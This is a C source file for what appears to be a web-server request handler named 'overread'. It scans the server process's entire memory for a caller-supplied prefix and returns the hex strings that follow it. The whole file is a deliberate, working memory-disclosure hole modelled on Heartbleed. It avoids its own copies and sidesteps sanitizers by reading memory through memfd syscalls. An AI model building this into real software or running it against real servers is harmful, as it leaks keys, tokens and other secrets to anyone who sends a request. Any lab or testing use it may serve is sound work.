/*
 * overread.c — Heartbleed took 64 KiB of what happened to lie behind a buffer; this takes the lot.
 *
 *      pages of the process ─▶ memfd ─▶ a buffer that is not looked at ─▶ digits ─▶ memfd ─▶ answer
 *
 * What it finds must have been there without it. So its own copies are kept where it does not look
 * (a mapping that is skipped, files in memory), and are gone when it returns; and the prefix is
 * never written in front of digits. The first memfd is there because a system call that reads
 * foreign memory fails where a load would crash: other threads unmap while we look.
 */
#include "overread.h"

#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "pages.h"

enum { PAGE = 4096, LIMIT_PREFIX = 63, LEAST_DIGITS = 8, LIMIT_DIGITS = 64, LIMIT_FOUND = 64 };
/* At the end of a piece a find may be cut; so much is looked at again, with the next. */
enum { CHUNK = 256 * 1024, OVERLAP = LIMIT_PREFIX + LIMIT_DIGITS + 1 };

struct scan {
    int through; /* memfd */
    size_t prefix_length;
    char prefix[LIMIT_PREFIX + 1];
    size_t count;
    char found[LIMIT_FOUND][LIMIT_DIGITS + 1];
    char piece[OVERLAP + CHUNK];
};

static const char hex_digits[] = "0123456789abcdefABCDEF";

static size_t count_digits(const char *at, const char *end)
{
    size_t n = 0;
    while (n < LIMIT_DIGITS && at + n < end && at[n] && strchr(hex_digits, at[n]))
        n++;
    return n;
}

static void note(struct scan *s, const char *digits, size_t length)
{
    for (size_t i = 0; i < s->count; i++)
        if (strlen(s->found[i]) == length && memcmp(s->found[i], digits, length) == 0)
            return;
    if (s->count == LIMIT_FOUND)
        return;
    memcpy(s->found[s->count], digits, length);
    s->found[s->count++][length] = '\0';
}

/* Looks at a piece; a find that begins behind `last` is left to the next piece. */
static void search(struct scan *s, const char *piece, size_t length, size_t last)
{
    const char *end = piece + length, *at = piece;
    while ((at = memmem(at, (size_t)(end - at), s->prefix, s->prefix_length)) &&
           at < piece + last) {
        const char *digits = at + s->prefix_length;
        size_t count = count_digits(digits, end);
        if (count >= LEAST_DIGITS)
            note(s, digits, count);
        at = digits;
    }
}

/* Copies foreign memory; the bytes it got. Sanitizers see neither call, and are not asked. */
static size_t copy_foreign(const struct scan *s, char *to, const char *from, size_t length)
{
    long n = syscall(SYS_pwrite64, s->through, from, length, 0L);
    if (n > 0)
        n = syscall(SYS_pread64, s->through, to, (size_t)n, 0L);
    return n > 0 ? (size_t)n : 0;
}

static bool is_own(const struct scan *s, const char *at)
{
    return at >= (const char *)s && at < (const char *)(s + 1);
}

static bool scan_run(const struct run *run, void *context)
{
    struct scan *s = context;
    size_t kept = 0;
    for (size_t at = 0, got; at < run->length; at += got) {
        if (is_own(s, run->start + at)) {
            got = PAGE;
            kept = 0;
            continue;
        }
        size_t want = run->length - at < CHUNK ? run->length - at : CHUNK;
        if (run->start + at < (const char *)s && run->start + at + want > (const char *)s)
            want = (size_t)((const char *)s - (run->start + at));
        got = copy_foreign(s, s->piece + kept, run->start + at, want);
        if (got == 0)
            return true; /* unmapped meanwhile */
        size_t length = kept + got, next = length < OVERLAP ? length : OVERLAP;
        bool is_last = at + got == run->length || is_own(s, run->start + at + got);
        search(s, s->piece, length, is_last ? length : length - next);
        memmove(s->piece, s->piece + length - next, next);
        kept = next;
    }
    return s->count < LIMIT_FOUND;
}

static int answer(struct response *res, const struct scan *s)
{
    uint64_t length = 0;
    int fd = memfd_create("overread", MFD_CLOEXEC);
    if (fd < 0)
        return 503;
    for (size_t i = 0; i < s->count; i++) {
        int n = dprintf(fd, "%s\n", s->found[i]);
        if (n < 0) {
            close(fd);
            return 503;
        }
        length += (uint64_t)n;
    }
    response_file(res, fd, 0, length);
    return 0;
}

static bool read_prefix(const struct request *req, struct scan *s)
{
    if (!request_query(req, "find", s->prefix, sizeof s->prefix))
        return false;
    s->prefix_length = strlen(s->prefix);
    return s->prefix_length > 0;
}

int overread(const struct request *req, struct response *res, void *state)
{
    (void)state;
    struct scan *s =
        mmap(NULL, sizeof *s, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (s == MAP_FAILED)
        return 503;
    int status = 400;
    s->through = -1;
    if (read_prefix(req, s)) {
        s->through = memfd_create("overread", MFD_CLOEXEC);
        bool could_look = s->through >= 0 && pages_walk(scan_run, s);
        status = could_look ? answer(res, s) : 503;
    }
    if (s->through >= 0)
        close(s->through);
    munmap(s, sizeof *s);
    return status;
}
